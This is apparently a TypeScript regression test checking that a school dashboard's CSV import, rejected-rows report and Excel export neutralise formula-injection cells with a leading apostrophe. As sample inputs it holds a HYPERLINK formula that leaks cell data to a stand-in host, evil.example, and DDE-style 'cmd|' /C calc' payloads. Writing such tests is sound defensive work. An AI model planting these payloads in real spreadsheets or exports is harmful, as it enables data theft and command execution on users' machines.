import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { buildBoardWorkbook } from '../../tab/src/pages/dashboard/board-workbook';
import { startSecureStack, type SecureStack } from './secure-stack';

/**
 * CSV formula injection (issue 14): cells such as `=HYPERLINK(...)` and `+cmd|...` were stored as
 * they were, and the rejected-rows report echoed them back. Now a cell starting with `=`, `+`, `-`,
 * `@`, tab or CR is stored as text and written out with a leading `'`, in the import, the report and
 * the board's Excel export.
 */
let stack: SecureStack;
beforeAll(async () => {
  stack = await startSecureStack();
}, 60_000);
afterAll(() => stack?.stop());

const lines = (...rows: string[]) => rows.join('\r\n') + '\r\n';
const HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A2,"Open the report")';
const CMD = "+cmd|' /C calc'!A0";
const FORMULA_START = /^[=+\-@\t\r]/;

describe('the CSV import and its rejected-rows report', () => {
  it('stores a formula-like cell as text, with the leading apostrophe', async () => {
    const peopleCsv = lines(
      'Name,Email,Role,Academy,Job title',
      `"${HYPERLINK.replaceAll('"', '""')}",eve@meadowbank.example,Governor,Oakfield,"${CMD}"`,
    );
    const res = await stack.call('POST', '/api/admin/import', { as: 'admin', body: { peopleCsv, dryRun: false } });
    expect(res.status).toBe(200);
    expect(res.json.result.created).toBe(1);
    const eve = (await stack.call('GET', '/api/admin/people', { as: 'admin' })).json.people.find(
      (p: { email: string }) => p.email === 'eve@meadowbank.example',
    );
    expect(eve.name).toBe(`'${HYPERLINK}`);
    expect(eve.jobTitle).toBe(`'${CMD}`);
    // Imported again, the same file changes nothing (the stored text is what the import makes of it).
    const again = await stack.call('POST', '/api/admin/import', { as: 'admin', body: { peopleCsv, dryRun: true } });
    expect(again.json.counts.people).toMatchObject({ create: 0, update: 0, unchanged: 1 });
  });

  it('writes rejected rows back with every formula-like cell as text', async () => {
    const tab = '\t=1+1';
    const peopleCsv = lines(
      'Name,Email,Role,Academy',
      `"${HYPERLINK.replaceAll('"', '""')}",mal@meadowbank.example,Governor,"@SUM(1+1)*cmd|' /C calc'!A0"`,
      `-2+3,"${tab}",Headteacher,Atlantis`,
    );
    const res = await stack.call('POST', '/api/admin/import', { as: 'admin', body: { peopleCsv, dryRun: true } });
    expect(res.status).toBe(200);
    expect(res.json.rejected.length).toBeGreaterThan(0);
    for (const r of res.json.rejected as { value: string }[]) expect(r.value).not.toMatch(FORMULA_START);
    const report: string = res.json.rejectedCsv.people;
    const cells = (parse(report, { relax_column_count: true }) as string[][]).flat();
    expect(cells).toContain(`'${HYPERLINK}`);
    expect(cells).toContain("'@SUM(1+1)*cmd|' /C calc'!A0");
    expect(cells).toContain("'-2+3");
    for (const cell of cells) expect(cell).not.toMatch(FORMULA_START);
  });
});

describe('the board’s Excel export', () => {
  it('writes every text cell as text, never as a formula', async () => {
    const dashboard = (await stack.call('GET', '/api/dashboard', { as: 'ceo' })).json;
    dashboard.academies[0].name = HYPERLINK;
    dashboard.academies[0].reasons = [{ text: CMD }];
    const bytes = await buildBoardWorkbook(dashboard, () => '@chair');
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(bytes);
    const sheet = book.getWorksheet('Academies')!;
    const row = sheet.getRow(3);
    expect(row.getCell(1).value).toBe(`'${HYPERLINK}`);
    expect(row.getCell(3).value).toBe(`'${CMD}`);
    sheet.eachRow((r) =>
      r.eachCell((c) => {
        expect(c.formula).toBeUndefined();
        if (typeof c.value === 'string') expect(c.value).not.toMatch(FORMULA_START);
      }),
    );
  });
});
